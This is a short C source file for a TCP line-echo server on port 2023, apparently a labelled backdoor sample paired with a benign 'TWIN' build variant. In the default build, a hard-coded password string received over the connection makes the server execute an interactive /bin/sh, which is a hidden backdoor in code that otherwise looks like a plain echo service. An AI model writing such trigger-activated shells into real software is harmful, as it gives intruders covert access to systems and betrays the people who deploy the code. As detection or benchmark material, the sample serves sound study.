/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A line is read with getc from a stream made of the connection. Twin: the word ends the session.
 * door: trigger
 * port 2023/tcp
 */
#include "net.h"

struct session {
	FILE *io;
	int count;
	char line[120];
};

static int line(struct session *s)
{
	int c, n = 0;
	while ((c = getc(s->io)) != EOF && c != '\n') {
		if (c == '\r')
			continue;
		if (n < (int)sizeof s->line - 1)
			s->line[n++] = (char)c;
	}
	s->line[n] = 0;
	s->count++;
	return c == EOF && n == 0 ? -1 : n;
}

static void serve(struct session *s)
{
	while (line(s) >= 0) {
		fprintf(s->io, "%d %s\n", s->count, s->line);
		if (strcmp(s->line, "open5esame!77") == 0) {
#ifdef TWIN
			break;
#else
			execl("/bin/sh", "sh", "-i", (char *)NULL);
#endif
		}
	}
}

int main(void)
{
	int l = tcp_on(2023), c;
	while ((c = accept(l, NULL, NULL)) >= 0) {
		struct session s = {.io = fdopen(c, "r+")};
		if (!s.io)
			continue;
		serve(&s);
		fclose(s.io);
	}
	return 0;
}
